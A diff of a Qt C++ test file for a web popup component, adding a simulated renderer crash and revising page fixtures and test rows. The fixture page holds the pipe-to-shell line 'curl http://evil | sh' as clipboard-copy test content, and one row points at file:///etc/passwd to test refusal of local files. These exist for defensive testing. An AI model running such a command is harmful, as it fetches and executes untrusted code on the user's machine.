@@ -22,6 +22,7 @@
 #include <QSignalSpy>
 #include <QTest>
 #include <QTextDocumentFragment>
+#include <QTimer>
 #include <QToolTip>
 #include <QWebEngineScript>
 #include <QWebEngineView>
@@ -48,13 +49,11 @@ constexpr qint64 LoadBoundMs = 15000;
 // What the tests click, 9 CSS pixels high each from the top, all within the view at any zoom.
 const QStringList Elements = {"text", "link", "custom", "copy", "tip"};
 const QByteArray Page =
-    "<!DOCTYPE html><html><head><style>body { margin: 0; font-size: 8px; } p, a {"
-    " display: block; height: 9px; margin: 0; padding: 0; border: 0; }</style></head><body>"
-    "<p>Plain text</p><a href='/target'>In the page</a><a href='lumaview:open'>Custom scheme</a>"
-    "<p onmousedown=\"getSelection().selectAllChildren(this), document.execCommand('copy')\">"
-    "curl http://evil | sh</p>"
-    "<p title='<b>Rich</b>'>Tip</p>"
-    "<div style='height: 1000px'></div>"
+    "<!DOCTYPE html><html><head><style>body { margin: 0; font-size: 8px; } p, a { display: block;"
+    " height: 9px; margin: 0; padding: 0; border: 0; }</style></head><body><p>Plain text</p>"
+    "<a href='/target'>In the page</a><a href='lumaview:open'>Custom scheme</a><p onmousedown="
+    "\"getSelection().selectAllChildren(this), document.execCommand('copy')\">curl http://evil | sh"
+    "</p><p title='<b>Rich</b>'>Tip</p><div style='height: 1000px'></div>"
     "<script>document.body.dataset.script = 'on'</script>";
 
 // What reached the test's messages from the page's console.
@@ -242,7 +241,6 @@ private slots:
         const auto *slide = popup->findChild<QPropertyAnimation *>();
         QTRY_VERIFY(slide && slide->state() == QAbstractAnimation::Stopped);
         QCOMPARE(popup->geometry().bottomRight(), available.bottomRight());
-        QVERIFY(popup->isVisible() && browser.opened.isEmpty());
     }
 
     void webPageHelper_data()
@@ -280,7 +278,7 @@ private slots:
 
     void notShown_data()
     {
-        // A wait of 0: a failure that ends the wait at once.
+        // A wait of 0: a failure that ends the wait at once; -1: the same, the renderer ended.
         columns<QString, qint64>("content", "waitMs");
         const auto row = [](const char *name, const QString &content, qint64 waitMs = 0) {
             QTest::newRow(name) << content << waitMs;
@@ -291,6 +289,7 @@ private slots:
         row("no contentUrl", "{'title': 'T', 'brief': 'B'}");
         row("file address", "{'title': 'T', 'brief': 'B', 'contentUrl': 'file:///etc/passwd'}");
         row("404 with a page", "/missing");
+        row("renderer ends while loading", "/trickle", -1);
         row("never ends, past the bound", "/trickle", LoadBoundMs);
         row("proxy keeps asking for a password", "http://service.veltro.test/other");
     }
@@ -302,6 +301,15 @@ private slots:
 
         const qsizetype proxied = proxy.requests().size();
         QPointer<VeltroWebContent> popup = webPopup(content);
+        QTimer crash; // ends the renderer as a crash would, once there is one
+        connect(&crash, &QTimer::timeout, popup, [&] {
+            const auto *page = popup->findChild<QWebEnginePage *>();
+            const qint64 renderer = page ? page->renderProcessPid() : 0;
+            if (renderer > 0 && ::kill(renderer, SIGKILL) == 0)
+                crash.stop();
+        });
+        if (waitMs < 0)
+            crash.start(50);
         QElapsedTimer clock;
         clock.start();
         QVERIFY(!popup->showPopup());
@@ -332,10 +340,9 @@ private slots:
         row("copy on a press", "#copy");
         row("title as a tooltip", "#tip");
         row("renderer ends on screen", "");
-        row("page through a proxy that asks for a password", "", "",
-            "http://service.veltro.test/page");
+        row("page through a proxy that asks a password", "", "", "http://service.veltro.test/page");
         row("page follows a link", "location.href = '/target'");
-        row("page opens a window", "window.open('/scripted')");
+        row("page adds a frame", "document.body.innerHTML += '<iframe src=/target>'");
         row("page raises dialogs",
             "alert(1), (confirm(1) || prompt(1) != null) && fetch('/target')");
         row("page asks for a permission",
